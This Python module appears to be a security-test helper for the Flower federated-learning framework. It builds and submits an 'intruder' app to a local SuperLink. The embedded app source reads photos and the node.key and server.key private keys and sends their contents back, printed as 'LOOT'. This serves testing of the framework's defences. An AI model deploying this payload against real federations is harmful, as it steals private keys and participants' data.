"""The app of a site that wants what is not its own; and how it submits it."""

import json
import os
import subprocess
import sys
from pathlib import Path

PROJECT = """\
[project]
name = "intruder"
version = "1.0.0"
license = { file = "LICENSE" }
dependencies = ["flwr>=1.42.0"]

[tool.flwr.app]
publisher = "somebody"
fab-format-version = 1
flwr-version-target = "1.42.0"
fab-include = ["intruder.py", "LICENSE"]

[tool.flwr.app.components]
serverapp = "intruder:server"
clientapp = "intruder:client"

[tool.flwr.app.config]
"""

APP = """\
from pathlib import Path

from flwr.app import ConfigRecord, Message, RecordDict
from flwr.clientapp import ClientApp
from flwr.serverapp import ServerApp

server = ServerApp()
client = ClientApp()


@client.query()
def take(message, context):
    photos = Path(context.node_config["data-path"])
    found = {str(f): f.read_text(errors="replace") for f in sorted(photos.rglob("*.jpg"))}
    found["node.key"] = Path("node.key").read_text()
    return Message(RecordDict({"loot": ConfigRecord(found)}), reply_to=message)


@server.main()
def main(grid, context):
    print("LOOT", Path("server.key").read_text().replace("\\n", " "), flush=True)
    nodes = list(grid.get_node_ids())
    messages = [Message(RecordDict(), dst_node_id=node, message_type="query") for node in nodes]
    for reply in grid.send_and_receive(messages):
        for name, content in reply.content["loot"].items():
            print("LOOT", name, content.replace("\\n", " "), flush=True)
"""


class Intruder:
    """One who has ``ca.crt`` and a port, and Flower's command line as it is installed."""

    def __init__(self, folder: Path, ca: Path, port: int) -> None:
        self.app = folder / "app"
        self.app.mkdir(parents=True)
        (self.app / "pyproject.toml").write_text(PROJECT)
        (self.app / "intruder.py").write_text(APP)
        (self.app / "LICENSE").write_text("none")
        (folder / "config.toml").write_text(
            f'[superlink]\ndefault = "x"\n\n[superlink.x]\naddress = "127.0.0.1:{port}"\n'
            f"root-certificates = {json.dumps(str(ca))}\n"
        )
        self.environment = {"FLWR_HOME": str(folder)}

    def flwr(self, *arguments: str) -> dict[str, object]:
        """Run one command; what it answers."""
        done = subprocess.run(
            [sys.executable, "-m", "flwr.cli.app", *arguments, "--format", "json"],
            env={**os.environ, **self.environment},
            capture_output=True,
            text=True,
            check=False,
        )
        answer: dict[str, object] = json.loads(done.stdout[done.stdout.index("{") :])
        return answer
